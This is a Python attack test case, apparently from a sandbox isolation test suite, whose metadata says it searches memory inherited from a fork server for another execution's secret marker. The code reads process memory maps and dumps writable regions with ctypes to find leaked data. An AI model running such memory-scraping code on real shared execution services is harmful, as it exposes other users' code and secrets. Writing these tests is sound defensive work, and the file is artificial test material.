# /// attack
# category = "cross-execution"
# kind = "stdio"
# success = "canary:VICTIM"
# expected = ["wrong_answer", "sandbox_violation", "runtime_error", "time_limit_exceeded", "memory_limit_exceeded"]
# summary = "Searches memory inherited from the fork server for another execution's payload."
# ///

import ctypes
import gc
import re

pattern = re.compile(re.escape(b"{VICTIM_MARK}") + rb"[\w-]+")
found = set()
for item in gc.get_objects():
    try:
        found.update(pattern.findall(repr(item).encode()))
    except Exception:
        continue
try:
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
except OSError:
    regions = []
for region in regions:
    start, end = (int(part, 16) for part in region[0].split("-"))
    if region[1].startswith("rw") and end - start < 1 << 27:
        found.update(pattern.findall(ctypes.string_at(start, end - start)))
address = id(None) & ~0xFFFFF
for offset in range(0, 1 << 20, 4096):
    if not regions:
        found.update(pattern.findall(ctypes.string_at(address + offset, 4096)))
print(found)
